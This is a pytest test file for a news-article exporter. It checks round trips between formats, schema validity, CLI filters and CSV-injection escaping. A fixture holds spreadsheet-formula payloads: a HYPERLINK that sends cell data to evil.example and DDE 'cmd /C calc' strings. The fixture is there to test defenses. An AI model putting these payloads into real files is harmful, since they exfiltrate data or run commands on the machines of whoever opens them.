"""Exports: round trip (jsonl, csv, parquet → re-read → the same records), the API's
filters on the CLI, and every exported record (and an event's record) valid against
schema/record.schema.json. Real PostgreSQL and SQLite."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

import jsonschema
import pyarrow.parquet as pq
import pytest
from referencing import Registry, Resource
from sqlalchemy import select

from scrapers.records import ArticleRecord
from tests.e2e.records import T0, THANH_HOA_TITLE, seed
from worker.bootstrap import open_runtime
from worker.db.engine import transaction
from worker.db.models import Event
from worker.export import (
    CSV_FIELDS,
    RECORD_SCHEMA_ID,
    csv_safe,
    csv_value,
    export_rows,
    write_csv,
    write_jsonl,
)
from worker.export_parquet import read_parquet, write_parquet
from worker.settings import Settings
from worker.store import PageMeta, create_article

pytestmark = pytest.mark.db
SCHEMA_PATH = Path(__file__).resolve().parents[2] / "schema" / "record.schema.json"
TIMES = ("published_at", "updated_at", "first_seen_at", "fetched_at")


def schema() -> dict[str, Any]:
    return dict(json.loads(SCHEMA_PATH.read_text(encoding="utf-8")))


def validator(ref: str = "") -> jsonschema.Draft202012Validator:
    """The export schema, or with ref="#/$defs/parsed_record" the record alone."""
    doc = schema()
    registry = Registry().with_resource(doc["$id"], Resource.from_contents(doc))
    target = {"$ref": doc["$id"] + ref} if ref else doc
    return jsonschema.Draft202012Validator(
        target, registry=registry, format_checker=jsonschema.FormatChecker()
    )


def _instants(row: dict[str, Any]) -> dict[str, Any]:
    """Parquet keeps times as UTC instants: compare times as instants."""
    out = dict(row)
    for name in TIMES:
        if out.get(name):
            out[name] = datetime.fromisoformat(out[name]).timestamp()
    return out


@pytest.fixture
def seeded(tmp_path: Path, db_url: str) -> tuple[Settings, dict[str, int]]:
    settings = Settings(data_dir=tmp_path / "data", config_dir=tmp_path / "config",
                        database_url=db_url)  # fmt: skip
    runtime = open_runtime(settings, migrate=True)
    ids = seed(runtime.sessions)
    runtime.engine.dispose()
    return settings, ids


def _rows(settings: Settings) -> list[dict[str, Any]]:
    runtime = open_runtime(settings)
    with runtime.sessions() as session:
        rows = list(export_rows(session))
    runtime.engine.dispose()
    return rows


def test_round_trip_jsonl_csv_parquet(
    seeded: tuple[Settings, dict[str, int]], tmp_path: Path
) -> None:
    settings, ids = seeded
    rows = _rows(settings)
    assert [r["id"] for r in rows] == sorted(ids.values())
    assert any("police" not in r for r in rows) and any(r.get("police") for r in rows)

    buffer = io.StringIO()
    assert write_jsonl(iter(rows), buffer) == len(rows)
    assert [json.loads(line) for line in buffer.getvalue().splitlines()] == rows

    buffer = io.StringIO()
    write_csv(iter(rows), buffer)
    reread = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert reread == [{n: csv_value(r, n) for n in CSV_FIELDS} for r in rows]

    path = tmp_path / "records.parquet"
    assert write_parquet(iter(rows), path, group_rows=2) == len(rows)
    assert pq.ParquetFile(path).metadata.num_row_groups == 2
    assert [_instants(r) for r in read_parquet(path)] == [_instants(r) for r in rows]


def test_exported_records_and_event_records_match_the_schema(
    seeded: tuple[Settings, dict[str, int]],
) -> None:
    settings, _ = seeded
    assert schema()["$id"] == RECORD_SCHEMA_ID
    exported = validator()
    for row in _rows(settings):
        assert not [e.message for e in exported.iter_errors(row)], row["id"]
    runtime = open_runtime(settings)
    with runtime.sessions() as session:
        events = session.scalars(select(Event).order_by(Event.id)).all()
        record_only = validator("#/$defs/parsed_record")
        for event in events:
            record = event.payload["article"]["record"]
            assert not [e.message for e in record_only.iter_errors(record)], event.type
        assert {e.type for e in events} >= {"article.created", "article.updated"}
    runtime.engine.dispose()
    bad = {**_rows(settings)[0], "surprise": 1}
    assert not exported.is_valid(bad)


def _cli(settings: Settings, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "NEWSWORKER_DATA_DIR": str(settings.data_dir),
           "NEWSWORKER_CONFIG_DIR": str(settings.config_dir),
           "NEWSWORKER_DATABASE_URL": settings.database_url}  # fmt: skip
    return subprocess.run([sys.executable, "-m", "worker.cli", "export", *args],
                          env=env, capture_output=True, timeout=120, check=False)  # fmt: skip


def test_cli_filters_match_the_api(seeded: tuple[Settings, dict[str, int]], tmp_path: Path) -> None:
    settings, ids = seeded
    cases: list[tuple[list[str], set[int]]] = [
        (["--q", "cong an tinh thanh hoa"], {ids["thanh_hoa"]}),
        (["--q", "Công an"], {ids["thanh_hoa"], ids["scam"], ids["plain"]}),
        (["--source", "cand"], {ids["scam"], ids["plain"]}),
        (["--outlet-type", "police_portal"], {ids["thanh_hoa"]}),
        (["--province", "Thanh Hoa"], {ids["thanh_hoa"]}),
        (["--crime-article", "251"], {ids["thanh_hoa"]}),
        (["--person", "nguyen van hung"], {ids["thanh_hoa"]}),
        (["--since", "2026-03-13", "--until", "2026-03-14"], {ids["scam"]}),
        (["--police-only"], {ids["thanh_hoa"], ids["scam"]}),
    ]
    for args, expected in cases:
        done = _cli(settings, *args)
        assert done.returncode == 0, done.stderr.decode()
        got = {json.loads(line)["id"] for line in done.stdout.decode().splitlines()}
        assert got == expected, args
    out = tmp_path / "police.parquet"
    done = _cli(settings, "--format", "parquet", "--q", "dai ta", "-o", str(out))
    assert done.returncode == 0, done.stderr.decode()
    titles = [r["title"] for r in read_parquet(out)]
    assert titles == [THANH_HOA_TITLE]
    bad = _cli(settings, "--crime-article", "abc")
    assert bad.returncode == 2 and b"crime_article" in bad.stderr


# A page that fills its fields with spreadsheet formulas (OWASP CSV injection).
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "lead": "+1+cmd|' /C calc'!A0",
    "authors": ("@SUM(1+1)*cmd|' /C calc'!A0", "Lê Thị Mai"),
    "section": "-2+3",
    "tags": ("\tma túy", "Thanh Hóa"),
    "paragraphs": ("\r=1+1 đoạn đầu", "Đoạn thường."),
}


def _store_hostile(settings: Settings) -> int:
    url = "https://bao.example.vn/cong-thuc.html"
    record = ArticleRecord(url=url, canonical_url=url, published_at=T0, **HOSTILE)  # type: ignore[arg-type]
    meta = PageMeta(url=url, raw_sha256=None, etag=None, last_modified=None, feed_hint=None,
                    fetched_at=T0)  # fmt: skip
    runtime = open_runtime(settings)
    with transaction(runtime.sessions) as session:
        stored = create_article(session, source_key="cand", identity=url, record=record,
                                meta=meta, parser_version="test")  # fmt: skip
    runtime.engine.dispose()
    return stored.article_id


def test_csv_cells_never_start_a_formula(seeded: tuple[Settings, dict[str, int]]) -> None:
    settings, _ = seeded
    article_id = _store_hostile(settings)
    done = _cli(settings, "--format", "csv", "--source", "cand")
    assert done.returncode == 0, done.stderr.decode()
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
    row = next(r for r in rows if r["id"] == str(article_id))
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["lead"] == "'" + HOSTILE["lead"]
    assert row["authors"] == "'" + "; ".join(HOSTILE["authors"])
    assert row["section"] == "'-2+3"
    assert row["tags"] == "'\tma túy; Thanh Hóa"
    assert row["text"] == "'\r=1+1 đoạn đầu\n\nĐoạn thường."
    for cells in rows:  # no cell of any row starts a formula; ids stay plain numbers
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values())
        assert cells["id"].isdigit() and cells["url"].startswith("https://")
    jsonl = _cli(settings, "--format", "jsonl", "--source", "cand")
    record = next(r for r in map(json.loads, jsonl.stdout.decode().splitlines())
                  if r["id"] == article_id)  # fmt: skip
    assert record["title"] == HOSTILE["title"] and record["section"] == "-2+3"
    assert record["paragraphs"] == list(HOSTILE["paragraphs"])


def test_csv_safe_touches_only_text() -> None:
    assert [csv_safe(t) for t in ("=1", "+1", "-1", "@a", "\t1", "\r1")] == [
        "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1"
    ]  # fmt: skip
    assert [csv_safe(t) for t in ("", "1", "a=1", " =1", "'=1", "Công an")] == [
        "", "1", "a=1", " =1", "'=1", "Công an"
    ]  # fmt: skip
    row = {"id": -7, "revision": 2, "story_id": None, "title": "-7"}
    assert [csv_value(row, n) for n in ("id", "revision", "story_id", "title")] == [
        "-7", "2", "", "'-7"
    ]  # fmt: skip
